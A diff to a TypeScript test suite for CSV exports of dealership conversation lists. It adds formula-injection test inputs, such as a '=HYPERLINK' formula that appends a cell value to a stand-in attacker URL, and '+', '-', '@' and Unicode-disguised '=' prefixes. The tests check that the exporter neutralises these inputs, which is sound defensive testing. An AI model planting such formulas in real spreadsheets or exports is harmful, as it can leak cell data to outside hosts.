@@ -12,7 +12,21 @@ import { ACCOUNT, addConversation, seedWorld, USER } from './support/world'
 const range = { start_date: '2026-11-01T00:00:00', end_date: '2026-11-21T23:59:59' }
 /** More than one piece of the stream. */
 const CROWD = 620
-const HOSTILE = ['=HYPERLINK("http://evil.example")', '+1', '-2+3', '@SUM(A1)', '\tTab', 'Quote " and, comma']
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example")',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\tTab',
+  '=HYPERLINK("http://evil.example/"&B2,"open")\nword',
+  '=1\r\nword',
+  '=1\rword',
+  ' \n"=1+1',
+  '\u202E\u200B=1+1',
+  '＝1+1\u2028word',
+]
+const HARMLESS = 'Quote " and, comma\n=1'
+const NAMES = [...HOSTILE, HARMLESS]
 
 eachDatabase('exports of conversation lists', (database) => {
   let test: TestService
@@ -23,11 +37,24 @@ eachDatabase('exports of conversation lists', (database) => {
     const created_at = new Date('2026-11-10T15:00:00Z')
     for (let index = 0; index < CROWD; index += 1)
       await addConversation(test.db, {
-        name: HOSTILE[index] ?? `Lead ${String(index).padStart(4, '0')}`,
+        name: NAMES[index] ?? `Lead ${String(index).padStart(4, '0')}`,
         source_name: index % 2 ? 'Website' : 'AutoMarket',
         created_at: new Date(created_at.getTime() + index * 1000),
         phone: index === 0 ? '+13125550123' : null,
       })
+    // What a shopper wrote, and what a feed said of a lead.
+    const { id: conversation_id } = await addConversation(test.db, {
+      name: 'Lead 9999',
+      created_at,
+      source_name: '@Web\nsite',
+    })
+    await appendMessage(test.context, {
+      account_id: ACCOUNT.ford,
+      conversation_id,
+      initiator: 'HUMAN',
+      text: '=HYPERLINK("http://evil.example/"&B2,"open")\nhello',
+      channel: 'chat',
+    })
     await addConversation(test.db, { account_id: ACCOUNT.toyota, name: 'Sister', created_at })
     await addConversation(test.db, { account_id: ACCOUNT.riverside, name: 'Stranger', created_at })
   }, 300_000)
@@ -48,7 +75,7 @@ eachDatabase('exports of conversation lists', (database) => {
     const wish = { sort_column: 'Name, Surname', sort_direction: 'desc' } as const
     const exported = await rows(wish)
     const pages = []
-    for (let page_id = 1; page_id <= Math.ceil(CROWD / 20); page_id += 1)
+    for (let page_id = 1; page_id <= Math.ceil((CROWD + 1) / 20); page_id += 1)
       pages.push(
         ...(await test.call(conversations, { name: 'all', ...own, ...wish, page_id }, { as: USER.rep }))
           .items,
@@ -66,7 +93,7 @@ eachDatabase('exports of conversation lists', (database) => {
       'ConversationId',
     ])
     // 10:00 at the dealership.
-    expect(exported.find((row) => row.Customer === 'Lead 0006 Bell')).toMatchObject({
+    expect(exported.find((row) => row.Customer === 'Lead 0016 Bell')).toMatchObject({
       'Activity Date': '11/10/2026 10:00 AM',
       'Lead Source': 'AutoMarket',
     })
@@ -85,15 +112,22 @@ eachDatabase('exports of conversation lists', (database) => {
     const bytes = await (await test.request(path, {}, { as: USER.rep })).arrayBuffer()
     expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(0, 11))).toBe('\uFEFFCustomer')
     const all = await rows()
-    for (const name of HOSTILE.slice(0, 5)) expect(all.map((row) => row.Customer)).toContain(`'${name} Bell`)
-    expect(all.map((row) => row.Customer)).toContain(`${HOSTILE[5]} Bell`)
-    expect(all.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+    const names = all.map((row) => row.Customer)
+    expect(names).toEqual(expect.arrayContaining(HOSTILE.map((name) => `'${name} Bell`)))
+    expect(names).toContain(`${HARMLESS} Bell`)
+    expect(all.find((row) => row.Customer === 'Lead 9999 Bell')).toMatchObject({
+      'Customer’s Last Message': `'=HYPERLINK("http://evil.example/"&B2,"open")\nhello`,
+      'Lead Source': "'@Web\nsite",
+    })
+    expect(
+      all.flatMap((row) => Object.values(row)).filter((cell) => /^[\s"]*[=+\-@\t\r]/.test(cell)),
+    ).toEqual([])
     expect(all.find((row) => row.Phone !== '')?.Phone).toBe('(312) 555-0123')
   })
 
   it('puts a group’s dealerships together, and names them', async () => {
     const all = await rows({ account_id: ACCOUNT.northside }, USER.admin)
-    expect(all).toHaveLength(CROWD + 1)
+    expect(all).toHaveLength(CROWD + 2)
     expect(all.find((row) => row.Customer === 'Sister Bell')?.Dealership).toMatch(/toyota/i)
     expect(all.map((row) => row.Customer)).not.toContain('Stranger Bell')
   })
